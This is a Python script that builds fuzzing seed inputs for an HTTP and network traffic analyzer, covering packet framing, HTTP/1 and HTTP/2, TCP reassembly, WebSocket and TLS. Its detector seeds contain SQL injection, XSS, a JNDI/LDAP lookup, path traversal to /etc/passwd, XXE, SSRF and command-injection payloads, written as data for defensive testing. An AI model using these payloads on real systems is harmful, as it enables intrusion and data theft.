#!/usr/bin/env python3
"""Writes the committed seed corpus, fuzz/seeds/<target>/, from the fixture pcaps and from
hand-written HTTP. Run from anywhere: python3 fuzz/gen_seeds.py. Deterministic; regression
inputs (seeds/<target>/regress-*) are never touched.

The structured targets decode their input with `arbitrary` 1.x (see fuzz/src/lib.rs); the
encoders below write that format:
  - integers: little-endian, fixed size; bool: one byte, low bit;
  - enum: a u32 `v` picks variant (v * count) >> 32, then the variant's fields;
  - Vec<T>: each element preceded by a byte with the low bit set, then a 0 byte (or the end);
  - Payload (fuzz/src/lib.rs): u16 LE length, then the bytes;
  - the last field of the top-level struct takes the rest of the input.
Check a seed with `cargo +nightly fuzz fmt <target> seeds/<target>/<file>`.
"""

import os
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
SEEDS = os.path.join(HERE, "seeds")
FIX = os.path.join(ROOT, "fixtures")
ZEEK = os.path.join(FIX, "zeek-http", "pcaps", "http")
LOCAL = os.path.join(FIX, "local")

# ----------------------------------------------------------------------------------------------
# arbitrary encoding


def u8(v):
    return struct.pack("<B", v & 0xFF)


def u16(v):
    return struct.pack("<H", v & 0xFFFF)


def i16(v):
    return struct.pack("<h", v)


def u32(v):
    return struct.pack("<I", v & 0xFFFFFFFF)


def i32(v):
    return struct.pack("<i", v)


def boolean(b):
    return b"\x01" if b else b"\x00"


def variant(i, count):
    v = -(-(i << 32) // count)  # ceil(i * 2^32 / count)
    assert (v * count) >> 32 == i and v < 1 << 32
    return u32(v)


def payload(b):
    assert len(b) <= 0xFFFF
    return u16(len(b)) + b


def vec(items, last=False):
    out = b"".join(b"\x01" + it for it in items)
    return out if last else out + b"\x00"


# Order of apitap_fuzz::Dlt.
DLTS = [0, 1, 12, 14, 101, 108, 113, 228, 229, 239, 276]


def dlt(n):
    return variant(DLTS.index(n), len(DLTS))


# ----------------------------------------------------------------------------------------------
# pcap


def read_pcap(path):
    """(link type, [(ts_us, wire_len, data)]) of a classic pcap file."""
    b = open(path, "rb").read()
    magic = b[:4]
    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
        e = "<"
    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
        e = ">"
    else:
        raise ValueError(path + ": not a classic pcap")
    nano = magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d")
    link = struct.unpack(e + "I", b[20:24])[0]
    pkts, off = [], 24
    while off + 16 <= len(b):
        sec, frac, incl, orig = struct.unpack(e + "IIII", b[off : off + 16])
        data = b[off + 16 : off + 16 + incl]
        off += 16 + incl
        pkts.append((sec * 1_000_000 + (frac // 1000 if nano else frac), orig, data))
    return link & 0xFFFF, pkts


def ip_of_ethernet(frame):
    return frame[14:]


def tcp_payload_len(ip):
    """Payload length of an IPv4/IPv6 TCP packet, or None."""
    v = ip[0] >> 4
    if v == 4 and ip[9] == 6:
        ihl = (ip[0] & 15) * 4
        doff = (ip[ihl + 12] >> 4) * 4
        return len(ip) - ihl - doff
    if v == 6 and ip[6] == 6:
        doff = (ip[40 + 12] >> 4) * 4
        return len(ip) - 40 - doff
    return None


# ----------------------------------------------------------------------------------------------


def write(target, name, data):
    d = os.path.join(SEEDS, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def decode_seeds():
    def seed(name, n, frame, cut=0):
        write("decode", name, dlt(n) + u16(cut) + frame)

    link, pkts = read_pcap(os.path.join(ZEEK, "get.pcap"))
    assert link == 1
    data_pkts = [p for p in pkts if (tcp_payload_len(ip_of_ethernet(p[2])) or 0) > 0]
    syn = pkts[0][2]
    req = data_pkts[0][2]
    ip = ip_of_ethernet(req)
    mac = req[:12]
    seed("ethernet-syn", 1, syn)
    seed("ethernet-get", 1, req)
    seed("ethernet-get-cut", 1, req[:80], cut=len(req) - 80)
    seed("raw-101", 101, ip)
    seed("raw-12", 12, ip)
    seed("ipv4-228", 228, ip)
    seed("null-le", 0, struct.pack("<I", 2) + ip)
    seed("loop-be", 108, struct.pack(">I", 2) + ip)
    sll = struct.pack(">HHH", 0, 1, 6) + mac[:6] + b"\x00\x00" + struct.pack(">H", 0x0800)
    seed("linux-sll", 113, sll + ip)
    sll2 = struct.pack(">HHIHBB", 0x0800, 0, 2, 1, 0, 6) + mac[:6] + b"\x00\x00"
    seed("linux-sll2", 276, sll2 + ip)
    vlan = mac + struct.pack(">HH", 0x8100, 10) + struct.pack(">H", 0x0800)
    seed("ethernet-vlan", 1, vlan + ip)
    qinq = mac + struct.pack(">HHHH", 0x88A8, 100, 0x8100, 10) + struct.pack(">H", 0x0800)
    seed("ethernet-qinq", 1, qinq + ip)
    mpls = mac + struct.pack(">H", 0x8847) + bytes([0, 1, 0x21, 64])
    seed("ethernet-mpls", 1, mpls + ip)
    pppoe = mac + struct.pack(">H", 0x8864) + struct.pack(">BBHHH", 0x11, 0, 1, len(ip) + 2, 0x21)
    seed("ethernet-pppoe", 1, pppoe + ip)
    llc = mac + struct.pack(">H", len(ip) + 8) + bytes([0xAA, 0xAA, 3, 0, 0, 0]) + struct.pack(">H", 0x0800)
    seed("ethernet-llc-snap", 1, llc + ip)
    nflog = bytes([2, 0, 0, 0]) + struct.pack("<HH", 4 + len(ip), 9) + ip
    seed("nflog", 239, nflog)
    # IPv6: the IPv4 TCP segment under a hand-made IPv6 header.
    ihl = (ip[0] & 15) * 4
    tcp = ip[ihl:]
    v6 = struct.pack(">IHBB", 6 << 28, len(tcp), 6, 64) + bytes(15) + b"\x01" + bytes(15) + b"\x02"
    seed("ipv6-229", 229, v6 + tcp)
    seed("ethernet-ipv6", 1, mac + struct.pack(">H", 0x86DD) + v6 + tcp)
    link, pkts = read_pcap(os.path.join(ZEEK, "basic-auth-with-colon.pcap"))
    seed("ipv4-228-fixture", link, pkts[3][2] if len(pkts) > 3 else pkts[0][2])
    link, pkts = read_pcap(os.path.join(ZEEK, "connect-with-header.pcap"))
    seed("null-fixture", link, pkts[0][2])


def pipeline_seeds():
    for name in [
        "get.pcap",
        "curl_http_09.pcap",
        "content-length-overflow.pcap",
        "basic-auth-with-colon.pcap",
        "websocket.pcap",
        "http-desync-request-response-5.pcap",
        "interleaved-http-entity.pcap",
        "multipart.pcap",
    ]:
        link, pkts = read_pcap(os.path.join(ZEEK, name))
        body, prev = b"", pkts[0][0]
        for ts, orig, data in pkts:
            dt = max(0, min(ts - prev, 0xFFFFFFFF))
            prev = max(prev, ts)
            body += b"\x01" + u32(dt) + u16(orig - len(data)) + payload(data)
        write("pipeline", os.path.splitext(name)[0], dlt(link) + body)
    link, pkts = read_pcap(os.path.join(LOCAL, "python-pipelining.pcap"))
    body, prev = b"", pkts[0][0]
    for ts, orig, data in pkts:
        body += b"\x01" + u32(max(0, ts - prev)) + u16(orig - len(data)) + payload(data)
        prev = max(prev, ts)
    write("pipeline", "python-pipelining", dlt(link) + body)


# HTTP messages shared by the http and http_parser seeds.
GET = b"GET /api/v1/users?id=7 HTTP/1.1\r\nHost: api.example\r\nAccept: */*\r\n\r\n"
OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 14\r\n\r\n{\"id\":7,\"a\":1}"
POST_CHUNKED = (
    b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nX-Trailer: t\r\n\r\n"
)
CREATED = b"HTTP/1.1 201 Created\r\nTransfer-Encoding: gzip, chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n"
HEAD = b"HEAD / HTTP/1.1\r\nHost: a\r\n\r\n"
HEAD_OK = b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"
CONTINUE = (
    b"PUT /x HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n",
    b"HTTP/1.1 100 Continue\r\n\r\n",
    b"abc",
    b"HTTP/1.1 204 No Content\r\n\r\n",
)
UPGRADE = (
    b"GET /ws HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x81\x05hello",
)
CONNECT = (
    b"CONNECT db.example:5432 HTTP/1.1\r\nHost: db.example:5432\r\n\r\n\x16\x03\x01",
    b"HTTP/1.1 200 Connection established\r\n\r\n",
)
HTTP09 = (b"GET /index.html\r\n", b"<html>old</html>")
CLOSE_DELIMITED = (b"GET /stream HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nServer: x\r\n\r\nbody until close")
BAD = (
    b"GET / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
)


def http_op_data(conn, from_server, data, dt=10):
    return variant(0, 6) + u8(conn) + boolean(from_server) + u16(dt) + payload(data)


def http_op_gap(conn, from_server, length, big=False):
    return variant(1, 6) + u8(conn) + boolean(from_server) + u16(length) + boolean(big)


def http_op_close(conn):
    return variant(3, 6) + u8(conn)


HTTP_DRAIN = variant(4, 6)


def http_input(ops, capture=64, bases=(0, 0, 2)):
    # max_header_bytes, max_headers, max_body_capture_bytes, max_pending_requests,
    # max_interim_responses, bases[3], ops
    head = u8(255) + u8(15) + u8(capture) + u8(3) + u8(3)
    head += b"".join(variant(b, 3) for b in bases)
    return head + vec(ops, last=True)


def http_seeds():
    def ex(*msgs):
        """Alternate client/server messages on connection 0."""
        return [http_op_data(0, i % 2 == 1, m) for i, m in enumerate(msgs)]

    write("http", "get-ok", http_input(ex(GET, OK) + [HTTP_DRAIN, http_op_close(0)]))
    write("http", "pipelined", http_input([http_op_data(0, False, GET + HEAD + GET), http_op_data(0, True, OK + HEAD_OK + OK)]))
    write("http", "chunked-trailers", http_input(ex(POST_CHUNKED, CREATED)))
    write("http", "split-bytes", http_input([http_op_data(0, False, GET[i : i + 7]) for i in range(0, len(GET), 7)] + [http_op_data(0, True, OK)]))
    write("http", "100-continue", http_input(ex(*CONTINUE)))
    write("http", "upgrade", http_input(ex(*UPGRADE)))
    write("http", "connect", http_input(ex(*CONNECT)))
    write("http", "http09", http_input(ex(*HTTP09)))
    write("http", "close-delimited", http_input(ex(*CLOSE_DELIMITED) + [http_op_gap(0, True, 5), http_op_close(0)]))
    write("http", "bad-framing", http_input(ex(*BAD)))
    write("http", "gap-in-body", http_input([
        http_op_data(0, False, b"POST /x HTTP/1.1\r\nContent-Length: 20\r\n\r\nabcd"),
        http_op_gap(0, False, 10),
        http_op_data(0, False, b"efghij" + GET),
        http_op_data(0, True, OK),
        http_op_gap(0, True, 100),
        http_op_data(0, True, b"xx\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
    ]))
    write("http", "reversed-ports", http_input([http_op_data(2, False, OK), http_op_data(2, True, GET)]))
    write("http", "two-conns", http_input([
        http_op_data(0, False, GET), http_op_data(1, False, HEAD), http_op_data(1, True, HEAD_OK),
        http_op_close(1), http_op_data(0, True, OK), http_op_data(1, False, GET),
    ]))


def http_parser_seeds():
    for name, data in [
        ("get", GET),
        ("ok", OK),
        ("post-chunked", POST_CHUNKED),
        ("created-chunked", CREATED),
        ("chunked-body", b"5;ext=1\r\nhello\r\n6\n world\n0\r\nX-T: 1\r\nY: 2\r\n\r\n"),
        ("chunked-overflow", b"10000000000000000\r\n"),
        ("head", HEAD_OK),
        ("continue", CONTINUE[1] + CONTINUE[3]),
        ("http09", HTTP09[0]),
        ("leading-crlf", b"\r\n\nOPTIONS * HTTP/1.0\r\nX: y\r\n\r\n"),
        ("obs-fold", b"HTTP/1.1 200 OK\r\nX-Long: a\r\n  b\r\nServer : s\r\n\r\n"),
        ("bad-cl", BAD[0]),
        ("te-cl", b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"),
        ("cruft-then-request", b"garbage\x00\xff\nmore\r\nGET /next HTTP/1.1\r\n\r\n"),
    ]:
        write("http_parser", name, data)


def detect_input(target, headers, content_type, body, status=200, response=b"{}", paranoia=1):
    """The fuzz/fuzz_targets/detect.rs `Input`: level, bounds (even: the defaults), a spare
    byte, content type (index into CONTENT_TYPES), target, headers, body, then an optional
    status, response type and body."""
    hs = vec([payload(n) + payload(v) for n, v in headers])
    return (bytes([paranoia, 200, 255, content_type]) + payload(target) + hs + payload(body)
            + b"\x01" + u16(status) + bytes([5]) + payload(response))


def detect_seeds():
    for name, data in [
        ("sqli-query", detect_input(b"/search?q=1%27%20OR%20%271%27%3D%271", [], 7, b"")),
        ("xss-json", detect_input(b"/r", [(b"User-Agent", b"okhttp/4.12.0")], 0, b'{"t":"<img src=x onerror=alert(1)>"}')),
        ("jndi-header", detect_input(b"/", [(b"X-Api-Version", b"${${lower:j}ndi:ldap://x/a}")], 7, b"")),
        ("multipart", detect_input(b"/u", [], 2, b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n")),
        ("xxe", detect_input(b"/i", [], 3, b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')),
        ("graphql", detect_input(b"/graphql", [], 0, b'{"query":"{ user(name: \\"x\\") { id } }","variables":{"a":{"$ne":1}}}')),
        ("form-error", detect_input(b"/f", [(b"Cookie", b"a=%3Cscript%3E; b=1")], 1, b"url=http%3A%2F%2F127.1%2F&c=;id", 500, b"You have an error in your SQL syntax")),
    ]:
        write("detect", name, data)


def reassembly_seeds():
    # Input: max_ooo_bytes_per_stream u8, max_ooo_bytes_total u8, ops (rest).
    # Endpoint indexes: 0 = 10.0.0.1:40000, 2 = 10.0.0.2:80.
    SYN, FIN, RST, PSH, ACK = 0x02, 0x01, 0x04, 0x08, 0x10

    def seg(src, dst, flags, data=b"", seq_off=0, ack_off=0, dt=100, seq_abs=None):
        seq = variant(1, 2) + u32(seq_abs) if seq_abs is not None else variant(0, 2) + i16(seq_off)
        return (variant(0, 2) + u8(src) + u8(dst) + boolean(False) + seq + variant(0, 2)
                + i16(ack_off) + u8(flags) + i32(dt) + payload(data))

    def expire(ms):
        return variant(1, 2) + u16(ms)

    handshake = [seg(0, 2, SYN, seq_abs=1000), seg(2, 0, SYN | ACK, seq_abs=5000), seg(0, 2, ACK)]
    close = [seg(0, 2, FIN | ACK), seg(2, 0, FIN | ACK), seg(0, 2, ACK)]
    write("reassembly", "http-exchange", u8(200) + u8(200) + vec(
        handshake + [seg(0, 2, PSH | ACK, GET), seg(2, 0, PSH | ACK, OK)] + close, last=True))
    # Second half first (a hole), then the first half; then a retransmission that differs.
    write("reassembly", "out-of-order", u8(64) + u8(100) + vec(handshake + [
        seg(0, 2, ACK, GET[20:], seq_off=20), seg(0, 2, ACK, GET[:20], seq_off=-len(GET)),
        seg(0, 2, ACK, b"X" * 10, seq_off=-10), expire(500)] + close, last=True))
    write("reassembly", "midstream-rst", u8(16) + u8(16) + vec([
        seg(2, 0, ACK, OK, seq_abs=77), seg(0, 2, ACK, GET, seq_abs=9), seg(2, 0, ACK, OK, seq_off=100),
        expire(300), seg(2, 0, RST)], last=True))
    flows = []
    for c in (0, 1, 3, 4, 5):
        flows += [seg(c, 2, SYN, seq_abs=100 * c), seg(c, 2, ACK, b"data", seq_off=0)]
    write("reassembly", "eviction-idle", u8(8) + u8(8) + vec(flows + [expire(2000)], last=True))


def ws_frame(fin, op, payload, key=None):
    b0 = (0x80 if fin else 0) | op
    mask = 0x80 if key else 0
    n = len(payload)
    if n < 126:
        head = bytes([b0, mask | n])
    elif n <= 0xFFFF:
        head = bytes([b0, mask | 126]) + struct.pack(">H", n)
    else:
        head = bytes([b0, mask | 127]) + struct.pack(">Q", n)
    if key:
        head += key
        payload = bytes(b ^ key[i % 4] for i, b in enumerate(payload))
    return head + payload


def websocket_seeds():
    key = b"\x12\x34\x56\x78"

    def client(b):
        return variant(0, 3) + payload(b)

    def server(b):
        return variant(1, 3) + payload(b)

    def gap(srv, n):
        return variant(2, 3) + boolean(srv) + u16(n)

    def inp(ops, deflate=False, samples=4, sample_bytes=32):
        return boolean(deflate) + u8(samples) + u8(sample_bytes) + vec(ops, last=True)

    chat = [
        client(ws_frame(True, 1, b'{"op":"subscribe","topic":"orders"}', key)),
        server(ws_frame(True, 1, b'{"ok":true}')),
        client(ws_frame(False, 1, b"Hel", key) + ws_frame(True, 9, b"ping", key)),
        client(ws_frame(True, 0, b"lo", key)),
        server(ws_frame(True, 2, bytes(300))),
        server(ws_frame(True, 8, struct.pack(">H", 1000) + b"bye")),
        client(ws_frame(True, 8, struct.pack(">H", 1000), key)),
    ]
    write("websocket", "chat", inp(chat))
    write("websocket", "gap-in-payload", inp([server(ws_frame(True, 2, bytes(200))[:100]), gap(True, 50), server(bytes(54))]))
    write("websocket", "deflate", inp([server(bytes([0xC1, 4, 0xF2, 0x48, 0x02, 0x00]))], deflate=True))
    write("websocket", "long-length", inp([server(bytes([0x82, 127, 0, 0, 0, 0, 0, 1, 0, 0]) + bytes(64))]))


def tls_hello_seeds():
    tls = os.path.join(FIX, "tls")
    for name in sorted(os.listdir(tls)):
        if not name.endswith(".client.bin"):
            continue
        case = name[: -len(".client.bin")]
        with open(os.path.join(tls, name), "rb") as f:
            client = f.read()
        with open(os.path.join(tls, case + ".server.bin"), "rb") as f:
            server = f.read()
        # Only the handshake matters: the first 2 KiB of each direction.
        write("tls_hello", case, u16(100) + u16(60) + payload(client[:2048]) + payload(server[:2048]))


# ----------------------------------------------------------------------------------------------
# HTTP/2 (h2_frames, hpack): hand-built frames and the RFC 7541 Appendix C blocks.

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def h2_frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def h2_literal(name, value):
    """A literal header field without indexing, new name (RFC 7541 section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def h2_input(client, server, late=False):
    """The h2_frames target's input: a control byte (entry, client/server split), then bytes."""
    rest = client + server
    share = min(127, (128 * len(client) + len(rest) - 1) // max(1, len(rest)))
    return bytes([share << 1 | int(late)]) + rest


def h2_seeds():
    req = h2_literal(b":method", b"POST") + h2_literal(b":path", b"/shop.Orders/GetOrder") + \
        h2_literal(b":scheme", b"http") + h2_literal(b"content-type", b"application/grpc")
    resp = h2_literal(b":status", b"200") + b"\x40\x08x-cached\x01y"
    msg = b"\x00\x00\x00\x00\x03abc"
    client = H2_PREFACE + h2_frame(4, 0, 0) + h2_frame(1, 0, 1, req[:9]) + h2_frame(9, 4, 1, req[9:]) + \
        h2_frame(0, 9, 1, b"\x02" + msg + b"\x00\x00") + h2_frame(1, 5, 3, req + b"\xbe")
    server = h2_frame(4, 0, 0, b"\x00\x05\x00\x00\x40\x00") + h2_frame(1, 4, 1, resp) + \
        h2_frame(0, 0, 1, msg) + h2_frame(1, 5, 1, h2_literal(b"grpc-status", b"0")) + \
        h2_frame(3, 0, 3, b"\x00\x00\x00\x08") + h2_frame(7, 0, 0, b"\x00\x00\x00\x03\x00\x00\x00\x00")
    write("h2_frames", "grpc-conversation", h2_input(client, server))
    write("h2_frames", "late-join", h2_input(client[40:], server[5:], late=True))
    push = h2_frame(5, 4, 1, b"\x00\x00\x00\x02" + h2_literal(b":path", b"/s.css"))
    write("h2_frames", "push-and-padding", h2_input(client, push + h2_frame(1, 0x2d, 2, b"\x01\x00\x00\x00\x00\x10" + resp + b"\x00")))
    rfc_requests = ["828684410f7777772e6578616d706c652e636f6d", "828684be58086e6f2d6361636865",
                    "828785bf400a637573746f6d2d6b65790c637573746f6d2d76616c7565"]
    rfc_huffman = ["828684418cf1e3c2e5f23a6ba0ab90f4ff", "828684be5886a8eb10649cbf"]
    write("hpack", "rfc7541-c3", b"\x00" + b"\xff".join(bytes.fromhex(h) for h in rfc_requests))
    write("hpack", "rfc7541-c4", b"\x00" + b"\xff".join(bytes.fromhex(h) for h in rfc_huffman))
    write("hpack", "size-updates", b"\x01" + bytes.fromhex("3fe101") + b"\xff" + b"\x20" + b"\xff" + bytes.fromhex("400a637573746f6d2d6b6579") + b"\x01v\xbe")


def main():
    decode_seeds()
    pipeline_seeds()
    http_seeds()
    http_parser_seeds()
    reassembly_seeds()
    websocket_seeds()
    tls_hello_seeds()
    h2_seeds()
    detect_seeds()
    total = 0
    for d, _, files in os.walk(SEEDS):
        total += sum(os.path.getsize(os.path.join(d, f)) for f in files)
    print(f"seeds: {total} bytes under {os.path.relpath(SEEDS, ROOT)}", file=sys.stderr)


if __name__ == "__main__":
    main()
